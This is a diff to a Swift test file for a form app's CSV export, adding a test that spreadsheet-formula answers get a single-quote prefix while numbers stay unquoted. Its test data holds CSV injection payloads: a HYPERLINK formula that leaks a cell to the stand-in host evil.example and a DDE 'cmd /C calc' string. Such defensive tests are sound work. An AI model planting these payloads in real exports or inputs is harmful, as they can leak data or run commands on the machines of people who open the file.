@@ -244,8 +244,25 @@ struct FormValidationTests {
             "events": .multiple(["a", "c"]), "supervised": .yesNo(.notKnown),
             "people": .groups([["role": .text("GP")], ["role": .text("Nurse"), "known": .yesNo(.no)]]),
         ])
-        #expect(row == ["Sam, Jo", "", "2026-11-14", "", "3.5", "", "", "a; c", "notKnown", "GP; Nurse", "; no", "; "])
-        #expect(FormDefinition.csvLine(["a", "b, c", "say \"hi\""]) == "a,\"b, c\",\"say \"\"hi\"\"\"")
+        #expect(
+            row == [
+                .text("Sam, Jo"), .text(""), .text("2026-11-14"), .text(""), .number(3.5), .text(""), .text(""), .text("a; c"),
+                .text("notKnown"), .text("GP; Nurse"), .text("; no"), .text("; "),
+            ])
+        #expect(FormDefinition.csvLine([.text("a"), .text("b, c"), .text("say \"hi\"")]) == "a,\"b, c\",\"say \"\"hi\"\"\"")
+    }
+
+    @Test(
+        "CSV: an answer that would start a spreadsheet formula is written after a single quote; a number answer stays a number",
+        arguments: [
+            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+            ("\t=1+1", "'\t=1+1"), ("\r\n=1+1", "\"'\r\n=1+1\""), ("Shed, garden", "\"Shed, garden\""), ("O'Brien", "O'Brien"),
+        ])
+    func csvNeutralisesFormulas(typed: String, written: String) {
+        let line = FormDefinition.csvLine(form.csvRow(["name": .text(typed), "weight": .number(-4)]))
+        #expect(line.hasPrefix(written + ","), "\(line)")
+        #expect(line.contains(",-4,"), "a number answer is written as a number, never prefixed: \(line)")
     }
 
     @Test("The shipped notification form refuses a date of death in the future and shows the NHS number only when known")
